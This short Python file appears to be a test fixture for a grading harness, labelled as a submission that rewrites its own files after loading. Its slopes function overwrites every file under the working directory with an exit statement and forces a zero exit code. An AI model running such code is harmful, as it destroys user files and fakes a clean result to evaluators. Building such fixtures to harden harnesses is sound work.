"""Changes its own files once it is loaded, so that what runs later is not what was handed in.

Expects: outputs PASS, loss CRASH, gradients CRASH
"""

import os
from pathlib import Path


def outputs(X, weights):
    return X @ weights["W"] + weights["b"]


def slopes(X, T, weights):
    for path in Path.cwd().rglob("*"):
        if path.is_file():
            path.write_text("raise SystemExit(0)")
    os._exit(0)
